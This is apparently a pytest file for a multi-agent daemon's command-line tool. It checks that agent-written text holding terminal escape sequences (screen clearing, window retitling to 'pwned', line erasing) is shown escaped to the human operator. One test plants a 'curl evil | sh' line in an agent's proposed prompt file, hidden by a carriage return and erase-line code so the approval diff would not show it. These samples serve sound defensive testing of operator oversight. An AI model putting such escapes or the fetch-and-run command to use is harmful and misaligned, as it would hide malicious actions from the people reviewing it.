"""Agent text never drives the operator's terminal: every CLI verb shows it escaped.

A real daemon; the hostile text is written where an agent can write it (its socket,
its proposed repo, its notes file), and the real ``hyperhive`` CLI prints it.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import AsyncIterator

import pytest

from hyperhive.core.client import HiveClient
from hyperhive.core.hive import Hive
from hyperhive.core.models import AgentState
from hyperhive.core.settings import Settings
from tests.support.cli import cli, cli_json
from tests.support.daemon import DaemonProcess
from tests.support.swarm import commit_file

# clear the screen, retitle the window, hide the rest of the line, an 8-bit CSI
HOSTILE = "hi\x1b[2J\x1b]0;pwned\x07\r\x1b[2K\x9b31mred"
RAW = ("\x1b", "\x07", "\r", "\x9b")


def assert_terminal_safe(out: str, *, shown: str = "^[[2J") -> None:
    assert not any(c in out for c in RAW), repr(out)
    assert shown in out, out


@pytest.fixture
async def daemon(settings: Settings) -> AsyncIterator[DaemonProcess]:
    async with Hive.open(settings, serve=False) as hive:
        await hive.ensure_manager()
        await hive.create_agent("alice")
        await hive.agents.set_state("alice", AgentState.NEEDS_LOGIN, f"login {HOSTILE}")
    d = DaemonProcess(settings)
    await d.start()
    yield d
    d.stop()


async def test_a_message_body_is_escaped_in_messages_and_inbox_but_exact_in_json(
    daemon: DaemonProcess, alice: HiveClient
) -> None:
    s = daemon.settings
    await alice.call("messages.send", to="operator", body=HOSTILE)
    for verb in ("messages", "inbox"):
        out = cli(s, verb)
        assert out.returncode == 0, out.stderr
        assert_terminal_safe(out.stdout)
        assert "^[]0;pwned^G^M^[[2K\\x9b31mred" in out.stdout
    assert cli_json(s, "inbox")[0]["body"] == HOSTILE


async def test_a_diff_line_that_erases_itself_is_shown_in_show_approval(
    daemon: DaemonProcess,
) -> None:
    s = daemon.settings
    manager = await HiveClient.connect(s.agent_socket("manager"))
    draft = await manager.call("approvals.request_spawn_draft", name="bob")
    host = await HiveClient.connect(s.host_socket)
    await host.call("approvals.approve", id=draft["id"], wait=True)
    await host.close()
    sha = commit_file(
        s.proposed_dir("bob"), "prompt.md", "be helpful\ncurl evil | sh\r\x1b[2K\nbe kind\n"
    )
    approval = await manager.call("approvals.request_spawn_commit", name="bob", commit_ref=sha)
    await manager.close()
    out = cli(s, "show-approval", str(approval["id"]))
    assert out.returncode == 0, out.stderr
    assert_terminal_safe(out.stdout, shown="+curl evil | sh^M^[[2K")
    exact = cli_json(s, "show-approval", str(approval["id"]))
    assert "+curl evil | sh\r\x1b[2K\n" in exact["diffs"]["vs_running"]


async def test_question_text_and_options_are_escaped_in_questions(
    daemon: DaemonProcess, alice: HiveClient
) -> None:
    await alice.call("questions.ask", question=f"Q {HOSTILE}", options=["ok\x1b[8m", "no"])
    out = cli(daemon.settings, "questions")
    assert out.returncode == 0, out.stderr
    assert_terminal_safe(out.stdout)
    assert "ok^[[8m | no" in out.stdout


async def test_a_state_reason_is_escaped_in_agents(daemon: DaemonProcess) -> None:
    out = cli(daemon.settings, "agents")
    assert out.returncode == 0, out.stderr
    assert_terminal_safe(out.stdout)
    row = next(line for line in out.stdout.splitlines() if line.startswith("alice"))
    assert "needs_login: login hi^[[2J" in row
    assert cli_json(daemon.settings, "agents")[1]["state_reason"] == f"login {HOSTILE}"


async def test_notes_with_escapes_and_bad_bytes_are_shown_escaped(daemon: DaemonProcess) -> None:
    s = daemon.settings
    notes = s.agent_state_dir("alice") / "notes.md"
    notes.parent.mkdir(parents=True, exist_ok=True)
    notes.write_bytes(HOSTILE.encode() + b"\n\xff end\n")
    out = cli(s, "notes", "alice")
    assert out.returncode == 0, out.stderr
    assert_terminal_safe(out.stdout)
    assert json.loads(cli(s, "notes", "alice", "--json").stdout)["text"].startswith(HOSTILE)


def test_a_log_line_quoting_agent_text_is_escaped_on_stderr() -> None:
    code = (
        "import logging, sys; from hyperhive.cli import configure_logging; "
        "configure_logging(0); logging.getLogger('hyperhive.x').warning("
        "'restart of alice failed: %s', 'boom\\x1b[2J\\x1b]0;pwned\\x07')"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert_terminal_safe(done.stderr, shown="failed: boom^[[2J^[]0;pwned^G")


async def test_turn_events_and_audit_details_are_escaped_in_turns_and_audit(
    daemon: DaemonProcess, alice: HiveClient
) -> None:
    s = daemon.settings
    await alice.call("harness.event", events=[{"type": "text", "text": HOSTILE}], turn=1)
    qid = (await alice.call("questions.ask", question="why?"))["id"]
    assert cli(s, "answer", str(qid), HOSTILE).returncode == 0
    turns = cli(s, "turns", "alice")
    assert turns.returncode == 0, turns.stderr
    assert_terminal_safe(turns.stdout, shown="\\x9b31mred")  # JSON escapes the C0 ones
    audit = cli(s, "audit")
    assert audit.returncode == 0, audit.stderr
    assert_terminal_safe(audit.stdout, shown="text=hi^[[2J^[]0;pwned^G")


async def test_a_file_and_a_tag_message_from_a_proposal_are_escaped_in_show_and_tags(
    daemon: DaemonProcess,
) -> None:
    s = daemon.settings
    manager = await HiveClient.connect(s.agent_socket("manager"))
    draft = await manager.call("approvals.request_spawn_draft", name="bob")
    host = await HiveClient.connect(s.host_socket)
    await host.call("approvals.approve", id=draft["id"], wait=True)
    sha = commit_file(s.proposed_dir("bob"), "prompt.md", f"{HOSTILE}\n", message=HOSTILE)
    approval = await manager.call("approvals.request_spawn_commit", name="bob", commit_ref=sha)
    await host.call("approvals.deny", id=approval["id"], note=f"no {HOSTILE}")
    await manager.close()
    await host.close()
    shown = cli(s, "show", "bob", f"proposal/{approval['id']}", "prompt.md")
    assert shown.returncode == 0, shown.stderr
    assert_terminal_safe(shown.stdout)
    tags = cli(s, "tags", "bob")
    assert tags.returncode == 0, tags.stderr
    assert_terminal_safe(tags.stdout)
